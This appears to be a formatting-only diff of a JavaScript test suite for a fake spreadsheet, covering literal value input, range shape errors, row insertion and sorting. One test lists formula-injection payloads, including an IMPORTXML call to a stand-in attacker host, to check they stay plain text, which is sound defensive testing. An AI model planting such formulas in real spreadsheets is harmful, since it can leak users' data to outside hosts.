@@ -41,13 +41,16 @@ describe('writing values', () => {
   });
 
   const payloads = ['=IMPORTXML("https://evil.example","//a")', '+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '0012', '2026-03-08', "'quoted", 'TRUE'];
-  it.each(['General', '@', 'yyyy-mm-dd hh:mm', '0.##'])('keeps every formula-looking payload as exactly its text through literal input in a %s cell', (format) => {
-    const sheet = new FakeSheet('S', new CallLog(), payloads.length, 1);
-    const range = sheet.getRange(1, 1, payloads.length, 1);
-    range.setNumberFormats(payloads.map(() => [format]));
-    range.setValues(payloads.map((text) => [literalInput(text, format)]));
-    expect(payloads.map((_, r) => [sheet.cellAt(r + 1, 1).value, sheet.cellAt(r + 1, 1).formula])).toEqual(payloads.map((text) => [text, '']));
-  });
+  it.each(['General', '@', 'yyyy-mm-dd hh:mm', '0.##'])(
+    'keeps every formula-looking payload as exactly its text through literal input in a %s cell',
+    (format) => {
+      const sheet = new FakeSheet('S', new CallLog(), payloads.length, 1);
+      const range = sheet.getRange(1, 1, payloads.length, 1);
+      range.setNumberFormats(payloads.map(() => [format]));
+      range.setValues(payloads.map((text) => [literalInput(text, format)]));
+      expect(payloads.map((_, r) => [sheet.cellAt(r + 1, 1).value, sheet.cellAt(r + 1, 1).formula])).toEqual(payloads.map((text) => [text, '']));
+    },
+  );
 
   it.each([
     ['2026-03-02', 'General', new Date('2026-03-01T23:00:00Z')],
@@ -69,9 +72,11 @@ describe('writing values', () => {
   });
 
   it('refuses a values array whose shape differs from the range', () => {
-    expect(() => sheetWith().getRange(1, 1, 2, 2).setValues([['a', 'b']])).toThrow(
-      'The number of rows in the data does not match the number of rows in the range. The data has 1 but the range has 2.',
-    );
+    expect(() =>
+      sheetWith()
+        .getRange(1, 1, 2, 2)
+        .setValues([['a', 'b']]),
+    ).toThrow('The number of rows in the data does not match the number of rows in the range. The data has 1 but the range has 2.');
   });
 
   it('refuses a range outside the sheet', () => {
@@ -79,7 +84,7 @@ describe('writing values', () => {
   });
 });
 
-describe('the person\'s moves', () => {
+describe("the person's moves", () => {
   it('gives inserted rows the formatting, not the contents, of their neighbour', () => {
     const sheet = sheetWith();
     sheet.getRange(2, 1).setNumberFormat('@').setValue('x');
@@ -90,10 +95,20 @@ describe('the person\'s moves', () => {
 
   it('sorts the rows below the frozen header and keeps each row whole', () => {
     const sheet = sheetWith();
-    sheet.getRange(1, 1, 4, 2).setValues([['Name', 'Id'], ['b', 2], ['c', 3], ['a', 1]]);
+    sheet.getRange(1, 1, 4, 2).setValues([
+      ['Name', 'Id'],
+      ['b', 2],
+      ['c', 3],
+      ['a', 1],
+    ]);
     sheet.setFrozenRows(1);
     sheet.sort(1);
-    expect(sheet.peekValues()).toEqual([['Name', 'Id'], ['a', 1], ['b', 2], ['c', 3]]);
+    expect(sheet.peekValues()).toEqual([
+      ['Name', 'Id'],
+      ['a', 1],
+      ['b', 2],
+      ['c', 3],
+    ]);
   });
 
   it('shifts cells right when a column is inserted, hiding nothing', () => {
